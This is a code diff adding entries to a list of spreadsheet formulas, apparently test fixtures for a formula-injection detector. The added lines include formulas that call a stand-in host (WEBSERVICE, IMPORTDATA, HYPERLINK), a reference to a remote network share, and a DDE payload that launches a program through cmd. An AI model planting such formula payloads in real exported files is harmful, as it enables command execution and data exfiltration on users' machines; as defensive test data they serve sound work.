@@ -56,6 +56,15 @@ FORMULAS = (
     '- hyperlink( "https://example.org/","More") and more',
     "+IMPORTXML(CONCAT(\"https://example.org/\", A1), '//a')",
     "-1e5+1",
+    '+WEBSERVICE(CONCAT(TRUE,"http://example.org/"))',
+    '+HYPERLINK(IF(TRUE,"http://example.org/"),"Open")',
+    '-IMPORTDATA(T(TRUE)&"http://example.org/")',
+    "+'\\\\example\\share\\[b.xls]Sheet1'!total",
+    "-[b.xls]Sheet1!total",
+    "+cmd |'/C calc'!A0",
+    "+SUM(Table1[Col])",
+    "+@SUM(A1)",
+    "+A:A",
 )
 
 TEXT = (
